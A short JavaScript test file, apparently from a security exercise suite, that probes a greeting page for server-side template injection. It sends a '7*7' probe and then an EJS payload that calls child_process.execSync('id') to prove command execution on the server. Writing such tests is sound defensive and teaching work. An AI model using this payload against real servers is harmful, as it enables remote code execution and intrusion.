// A name that is a program (steps 1 and 4).
//
// samples: bad 1, good 1
'use strict';

const { attack, load, quoted, run, use } = require('attack');

run(async () => {
  const { greeting } = load(['greeting']);

  /** The page for somebody of this name. */
  function page(name) {
    let sent;
    greeting({ query: { name } }, { send: (text) => (sent = text) });
    return sent;
  }

  use(page('Anna'));
  const seven = page(quoted('<%= 7*7 %>'));
  const id = page(quoted("<%= global.process.mainModule.require('child_process').execSync('id') %>"));
  attack(seven.includes('Hello 49,') && /Hello uid=\d+/.test(id), [seven, id]);
});
